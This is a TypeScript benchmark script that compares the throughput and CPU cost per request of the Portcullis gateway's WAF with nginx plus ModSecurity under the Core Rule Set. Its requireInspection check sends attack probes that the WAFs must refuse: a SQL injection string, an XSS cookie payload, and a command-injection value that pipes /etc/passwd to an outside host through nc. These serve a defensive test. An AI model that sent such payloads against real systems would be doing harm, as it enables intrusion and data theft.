/**
 * The whole way through a gateway with a WAF: Portcullis with everything on and the Core Rule Set, beside nginx with
 * ModSecurity and the same rules, interleaved in one run, each on the same pinned core with the load on the other.
 * Compare CPU per request and the ratios. It measures nothing unless both refuse the same attacks and pass the rest.
 *
 *   node bench/waf-gateway.ts [--rounds 5] [--seconds 4] [--json] [--no-write]
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { cpus, tmpdir } from "node:os";
import { join } from "node:path";
import { parseArgs } from "node:util";
import { has, LOAD_CORE, stop, stopAll, usage } from "./processes.ts";
import { readStolen, stolenSince, untilQuiet } from "./stolen-time.ts";
import {
  PATH,
  prepareConfiguration,
  startPortcullis,
  startStub,
  type Subject,
} from "./subjects.ts";
import { hasNginxModsecurity, startNginxModsecurity } from "./waf/nginx-modsecurity.ts";
import { debianCrs } from "./waf/rule-sets.ts";
import { median, ratioOf, ratioText } from "./waf/statistics.ts";
import { variedLoad, writeBodies } from "./waf/varied-load.ts";

const { values: options } = parseArgs({
  options: {
    rounds: { type: "string", default: "5" },
    seconds: { type: "string", default: "4" },
    json: { type: "boolean", default: false },
    write: { type: "boolean", default: true },
  },
  allowNegative: true,
});
const CONNECTIONS = 64;
/** Until the code is compiled and connections to the model are open. */
const WARM_UP_SECONDS = 6;
const RESULTS = join(import.meta.dirname, "waf", "RESULTS-gateway.md");
const WAF = `waf: { mode: enforce, rules: ["crs:/usr/share/modsecurity-crs"], paranoia: 1 }
`;

interface Row {
  readonly subject: string;
  readonly requestsPerSecond: number;
  readonly cpuUs: number;
  readonly p99Us: number;
  readonly rssMiB: number;
  readonly bad: number;
  readonly stolen: number;
}

interface Contender {
  readonly name: string;
  readonly inspects: boolean;
  start(): Promise<Subject>;
}

const NGINX = "nginx + ModSecurity + CRS 3.3.4";
const OURS = "Portcullis, everything on, CRS 3.3.4";
const BARE = "Portcullis, everything but the WAF";

const say = (text: string): void => void process.stderr.write(`${text}\n`);

/** Puts `text` into one field of a body that is otherwise as good as the others. */
function withRegion(body: string, text: string): string {
  const parsed = JSON.parse(body) as { inputs: Record<string, unknown> };
  parsed.inputs["region"] = text;
  return JSON.stringify(parsed);
}

/** Throws unless attacks are refused and an ordinary request passes: speed without the rules would be worth nothing. */
async function requireInspection(
  subject: Subject,
  name: string,
  { body, headers }: { body: string; headers: Record<string, string> },
): Promise<void> {
  const status = async (sent: string): Promise<number> => {
    const answer = await fetch(`http://127.0.0.1:${subject.port}${PATH}`, {
      method: "POST",
      headers: { "content-type": "application/json", accept: "application/json", ...headers },
      body: sent,
    });
    await answer.arrayBuffer();
    return answer.status;
  };
  const probes = [
    [body, 200],
    [withRegion(body, "x' UNION SELECT name, password FROM users--"), 403],
    [withRegion(body, "<script>alert(document.cookie)</script>"), 403],
    [withRegion(body, "; cat /etc/passwd | nc 192.0.2.1 80"), 403],
  ] as const;
  for (const [sent, expected] of probes) {
    const got = await status(sent);
    if (got !== expected)
      throw new Error(`${name} answered ${got}, not ${expected}, to ${sent.slice(0, 400)}`);
  }
}

async function measure(
  { name }: Contender,
  subject: Subject,
  order: { bodies: string; headers: readonly string[] },
): Promise<Row> {
  const base = { ...order, port: subject.port, connections: CONNECTIONS };
  await variedLoad({ ...base, seconds: WARM_UP_SECONDS });
  await untilQuiet();
  const stolenBefore = readStolen();
  const before = usage(subject.pid);
  const loaded = await variedLoad({ ...base, seconds: Number(options.seconds) });
  const { cpuUs, rssMiB } = usage(subject.pid);
  const row: Row = {
    subject: name,
    requestsPerSecond: loaded.requests / loaded.seconds,
    cpuUs: (cpuUs - before.cpuUs) / loaded.requests,
    p99Us: loaded.p99Us,
    rssMiB,
    bad: loaded.bad,
    stolen: stolenSince(stolenBefore),
  };
  say(
    `${name.padEnd(38)} ${row.requestsPerSecond.toFixed(0).padStart(7)}/s ${row.cpuUs.toFixed(1).padStart(8)} us CPU/request  p99 ${(row.p99Us / 1000).toFixed(1)} ms  bad ${row.bad}`,
  );
  return row;
}

/** Why this machine cannot run it. */
function missing(): string[] {
  const gaps: string[] = [];
  if (!has("wrk", ["--version"]) && !has("which", ["wrk"])) gaps.push("wrk");
  if (!has("nginx")) gaps.push("nginx");
  if (!hasNginxModsecurity()) gaps.push("libnginx-mod-http-modsecurity");
  return gaps;
}

const folder = mkdtempSync(join(tmpdir(), "portcullis-waf-gateway-"));
try {
  const rules = debianCrs(folder);
  const gaps = [...missing(), ...(rules ? [] : ["modsecurity-crs"])];
  if (gaps.length > 0 || !rules) {
    say(`SKIPPED: not installed: ${gaps.join(", ")}; nothing was measured`);
    process.exitCode = 2;
  } else {
    const stubPort = await startStub(LOAD_CORE);
    const token = prepareConfiguration(folder, stubPort);
    const everything = readFileSync(join(folder, "portcullis.yaml"), "utf8");
    writeFileSync(join(folder, "waf.yaml"), everything + WAF);
    await run(
      [
        {
          name: NGINX,
          inspects: true,
          start: () => startNginxModsecurity(folder, stubPort, rules.file),
        },
        { name: OURS, inspects: true, start: () => startPortcullis(folder, "waf.yaml") },
        { name: BARE, inspects: false, start: () => startPortcullis(folder, "portcullis.yaml") },
      ],
      token,
    );
  }
} finally {
  await stopAll();
  rmSync(folder, { recursive: true, force: true });
}

async function run(contenders: readonly Contender[], token: string): Promise<void> {
  const bodies = writeBodies(folder);
  const [body = ""] = readFileSync(bodies, "utf8").split("\n");
  const rows: Row[] = [];
  for (let round = 1; round <= Number(options.rounds); round += 1) {
    for (const contender of round % 2 ? contenders : contenders.toReversed()) {
      const subject = await contender.start();
      const headers = { authorization: `Bearer ${token}` };
      if (contender.inspects) await requireInspection(subject, contender.name, { body, headers });
      const order = { bodies, headers: [`Authorization: Bearer ${token}`] };
      rows.push(await measure(contender, subject, order));
      await stop(subject.child);
    }
  }
  report(rows);
}

function report(rows: readonly Row[]): void {
  const of = (name: string, pick: (row: Row) => number): number[] =>
    rows.filter((row) => row.subject === name).map(pick);
  const names = [...new Set(rows.map((row) => row.subject))].toSorted();
  const table = [
    "| subject | requests/s | CPU us/request | p99 ms at 64 | RSS MiB | bad | stolen % |",
    "|---|--:|--:|--:|--:|--:|--:|",
    ...names.map((name) => {
      const middle = (pick: (row: Row) => number, digits = 0): string =>
        median(of(name, pick)).toFixed(digits);
      const bad = of(name, (row) => row.bad).reduce((sum, each) => sum + each, 0);
      return `| ${name} | ${middle((r) => r.requestsPerSecond)} | ${middle((r) => r.cpuUs, 1)} | ${middle((r) => r.p99Us / 1000, 1)} | ${middle((r) => r.rssMiB)} | ${bad} | ${middle((r) => r.stolen * 100)} |`;
    }),
  ].join("\n");
  const rps = ratioOf(
    of(OURS, (r) => r.requestsPerSecond),
    of(NGINX, (r) => r.requestsPerSecond),
  );
  const cpu = ratioOf(
    of(NGINX, (r) => r.cpuUs),
    of(OURS, (r) => r.cpuUs),
  );
  const inspectionUs = median(of(OURS, (r) => r.cpuUs)) - median(of(BARE, (r) => r.cpuUs));
  const text = `${table}

requests/s, ours by nginx's with ModSecurity: ${ratioText(rps)} (asked: at least 20)
CPU per request, theirs by ours: ${ratioText(cpu)}
the WAF's share of our CPU per request: ${inspectionUs.toFixed(1)} us
`;
  console.log(text);
  if (options.json)
    console.log(JSON.stringify({ rps_ratio: rps, cpu_ratio: cpu, waf_cpu_us: inspectionUs, rows }));
  if (options.write) writeFileSync(RESULTS, results(text));
}

function results(text: string): string {
  return `# Gateways with a WAF

Written by \`node bench/waf-gateway.ts\`; do not edit. ${options.rounds} rounds of ${options.seconds} s, interleaved A B C, C B A, ${CONNECTIONS} connections, each
subject on core 0, the load and the model on core 1. Ten thousand different bodies of about 570 bytes with 20 features,
an ES256 token. Same rules (Debian's modsecurity-crs at paranoia level 1), same three attacks refused by both before
each window. nginx has one worker and does nothing else; Portcullis runs every stage. Ratios within a round, median (range).

${text}
Node ${process.version}; ${cpus()[0]?.model ?? "unknown processor"}, ${cpus().length} cores, ${new Date().toISOString().slice(0, 10)}.
`;
}
